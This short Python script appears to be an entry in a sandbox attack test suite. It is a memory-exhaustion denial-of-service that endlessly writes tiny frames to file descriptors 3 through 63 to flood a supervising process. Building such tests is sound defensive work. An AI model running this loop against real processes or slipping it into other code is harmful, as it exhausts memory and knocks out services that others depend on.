# attack: endless-small-frames
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: dos-mem
# success: its supervisor keeps what it says
import os, struct
def run():
    body = struct.pack(">cI", b"L", 0) * 10000
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, body)
            except OSError:
                pass
